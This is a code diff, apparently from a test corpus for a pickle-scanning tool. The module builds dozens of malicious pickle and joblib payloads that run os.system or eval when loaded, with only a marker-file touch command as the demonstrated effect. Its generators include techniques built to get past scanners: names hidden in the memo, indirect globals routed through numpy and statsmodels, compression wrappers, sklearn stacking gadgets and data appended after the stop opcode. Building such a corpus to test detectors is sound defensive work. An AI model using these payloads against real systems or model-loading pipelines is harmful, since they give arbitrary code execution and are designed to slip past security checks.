@@ -1,4 +1,7 @@
-"""Pickles that run something when they are loaded; each would leave a marker file. Run as a program, they are let loose."""
+"""Pickles that execute something when loaded; each would create a marker file.
+
+Run as a program, this module loads all of them.
+"""
 
 from __future__ import annotations
 
@@ -26,26 +29,26 @@ class Calls:
         self.function, self.arguments = function, arguments
 
     def __call__(self) -> None:
-        """pickle wants whatever is called to look callable."""
+        """Required, because pickle checks that the object is callable."""
 
     def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
         return self.function, self.arguments
 
 
 def named(module: str, name: str) -> Any:
-    """A global by its name, dotted names included."""
+    """Return a global by its name, which may be dotted."""
     __import__(module)
-    found: Any = sys.modules[module]
+    value: Any = sys.modules[module]
     for part in name.split("."):
-        found = getattr(found, part)
-    return found
+        value = getattr(value, part)
+    return value
 
 
 def call(module: str, name: str, *arguments: Any) -> bytes:
     return pickle.dumps(Calls(named(module, name), *arguments))
 
 
-def joblibbed(payload: Any) -> bytes:
+def joblib_bytes(payload: Any) -> bytes:
     file = io.BytesIO()
     joblib.dump(payload, file)
     return file.getvalue()
@@ -56,12 +59,12 @@ def text(string: str) -> bytes:
 
 
 def stacked(module: str, name: str, argument: str) -> bytes:
-    """Protocol 4 by hand: the global of two strings, which may be dotted, called with a text."""
+    """Protocol 4 by hand: a global of two strings, which may be dotted, called with a text."""
     return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(argument) + b"\x85R."
 
 
 def by_memo(argument: str) -> bytes:
-    """The names of the global come out of the memo, where a scan for neighbouring strings does not see them."""
+    """Take the names of the global from the memo, where a scan for adjacent strings does not find them."""
     return b"\x80\x04" + text("system") + b"\x940" + text("os") + b"\x940" + b"h\x01h\x00\x93" + text(argument) + b"\x85R."
 
 
@@ -74,7 +77,7 @@ def estimator_with(evil: Any) -> Any:
 
 
 def formula(code: str) -> bytes:
-    """A statsmodels result whose formula is Python, evaluated as it is unpickled."""
+    """Return a statsmodels result whose formula is Python code, evaluated while unpickling."""
     import statsmodels.formula.api as smf
 
     frame = pd.DataFrame({"y": [0.0, 1.0, 0.5, 2.0], "x": [1.0, 2.0, 3.0, 5.0]})
@@ -83,7 +86,7 @@ def formula(code: str) -> bytes:
     return pickle.dumps(result)
 
 
-class AFrame:
+class FrameWithEval:
     """A frame whose `eval` a stacking model would call with column names as code."""
 
     def __reduce__(self) -> Any:
@@ -93,7 +96,7 @@ class AFrame:
 
 
 def stacked_frame(command: str) -> Any:
-    """Nothing but names of scikit-learn and pandas: estimators whose attributes lead their own code astray."""
+    """Use only globals of scikit-learn and pandas: estimators whose attributes misuse their own code."""
     from sklearn.ensemble import StackingClassifier
     from sklearn.linear_model import LogisticRegression
     from sklearn.pipeline import Pipeline
@@ -105,14 +108,18 @@ def stacked_frame(command: str) -> Any:
     second = StackingClassifier(estimators=[("x", LogisticRegression())], final_estimator=LogisticRegression())
     final = LogisticRegression().fit([[0], [1]], [0, 1])
     second.__dict__.update(
-        estimators_=[AFrame()], stack_method_=["eval"], classes_=np.array([0, 1]), passthrough=False, final_estimator_=final
+        estimators_=[FrameWithEval()],
+        stack_method_=["eval"],
+        classes_=np.array([0, 1]),
+        passthrough=False,
+        final_estimator_=final,
     )
     return Pipeline([("a", first), ("b", second)])
 
 
 def payloads(folder: Path) -> dict[str, bytes]:
-    """Each with the marker `folder/<name>`."""
-    return {name: make(str(folder / name)) for name, make in MAKERS.items()}
+    """Return every payload with the marker `folder/<name>`."""
+    return {name: payload(str(folder / name)) for name, payload in PAYLOADS.items()}
 
 
 def touch(marker: str) -> str:
@@ -127,7 +134,7 @@ def system(marker: str) -> Calls:
     return Calls(named("os", "system"), touch(marker))
 
 
-MAKERS: dict[str, Callable[[str], bytes]] = {
+PAYLOADS: dict[str, Callable[[str], bytes]] = {
     "os-system": lambda m: pickle.dumps(system(m)),
     "protocol-0": lambda m: f"cos\nsystem\n(V{touch(m)}\ntR.".encode(),
     "protocol-0-inst": lambda m: f"(V{touch(m)}\nios\nsystem\n.".encode(),
@@ -179,19 +186,19 @@ MAKERS: dict[str, Callable[[str], bytes]] = {
     "through-numpy": lambda m: stacked("numpy.testing._private.utils", "os.system", touch(m)),
     "by-memo": lambda m: by_memo(touch(m)),
     "object-array": lambda m: pickle.dumps(np.array([system(m), 1], dtype=object)),
-    "object-array-joblib": lambda m: joblibbed(np.array([system(m), 1], dtype=object)),
+    "object-array-joblib": lambda m: joblib_bytes(np.array([system(m), 1], dtype=object)),
     "a-frame": lambda m: pickle.dumps(pd.DataFrame({"a": [system(m)]})),
     "in-an-estimator": lambda m: pickle.dumps(estimator_with(system(m))),
-    "in-an-estimator-joblib": lambda m: joblibbed(estimator_with(np.array([system(m)], dtype=object))),
+    "in-an-estimator-joblib": lambda m: joblib_bytes(estimator_with(np.array([system(m)], dtype=object))),
     "in-an-estimator-deep": lambda m: pickle.dumps(
         estimator_with([{"a": (1, [Calls(Calls(named("functools", "partial"), named("os", "system"), touch(m)))])}])
     ),
     "a-key": lambda m: pickle.dumps({"a": 1, "b": [system(m)]}),
-    "zlib": lambda m: zlib.compress(joblibbed(system(m))),
-    "gzip": lambda m: gzip.compress(joblibbed(system(m))),
-    "bz2": lambda m: bz2.compress(joblibbed(system(m))),
-    "xz": lambda m: lzma.compress(joblibbed(system(m))),
-    "lzma": lambda m: lzma.compress(joblibbed(system(m)), format=lzma.FORMAT_ALONE),
+    "zlib": lambda m: zlib.compress(joblib_bytes(system(m))),
+    "gzip": lambda m: gzip.compress(joblib_bytes(system(m))),
+    "bz2": lambda m: bz2.compress(joblib_bytes(system(m))),
+    "xz": lambda m: lzma.compress(joblib_bytes(system(m))),
+    "lzma": lambda m: lzma.compress(joblib_bytes(system(m)), format=lzma.FORMAT_ALONE),
     "statsmodels-formula": lambda m: formula(f"__import__('os').system('touch {m}') + x"),
     "stacked-frame": lambda m: pickle.dumps(stacked_frame(touch(m))),
     "after-the-end": lambda m: pickle.dumps(estimator_with(np.ones((1, 2))))[:-1] + b"0" + pickle.dumps(system(m))[2:],
@@ -199,15 +206,15 @@ MAKERS: dict[str, Callable[[str], bytes]] = {
 
 
 def load(data: bytes) -> None:
-    """As a careless program would: load, and ask an estimator for an answer."""
+    """Load without checks and predict, as a careless program would."""
     model = joblib.load(io.BytesIO(data))
     if hasattr(model, "predict_proba"):
         model.predict_proba(pd.DataFrame({name: [0.0] for name in model.feature_names_in_}))
 
 
 if __name__ == "__main__":
-    for each in payloads(Path(sys.argv[1])).values():
+    for payload in payloads(Path(sys.argv[1])).values():
         try:
-            load(each)
+            load(payload)
         except BaseException as error:
             print(type(error).__name__, error, file=sys.stderr)
